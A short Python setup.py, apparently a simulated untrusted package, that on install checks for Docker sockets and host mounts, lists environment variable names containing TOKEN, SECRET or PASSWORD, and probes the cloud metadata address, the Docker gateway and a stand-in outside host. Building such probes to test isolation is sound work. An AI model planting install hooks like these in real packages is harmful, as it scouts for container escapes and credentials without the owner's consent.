# ruff: noqa - a package as strangers write them
"""Tries the network, then the host: docker's socket, a mount of the host, the cloud's metadata address."""
import os
import socket

from setuptools import setup

reached = [path for path in ("/var/run/docker.sock", "/host", "/run/docker.sock") if os.path.exists(path)]
reached += [name for name in os.environ if "TOKEN" in name or "SECRET" in name or "PASSWORD" in name]
for address in (("1.1.1.1", 53), ("169.254.169.254", 80), ("172.17.0.1", 22)):
    try:
        socket.create_connection(address, timeout=3).close()
        reached.append(address)
    except OSError as error:
        print("no way to", address, error)
if reached:
    print("REACHED", reached)
socket.create_connection(("192.0.2.1", 443), timeout=3)
setup(name="farm-phones-home", version="1.0", py_modules=[])
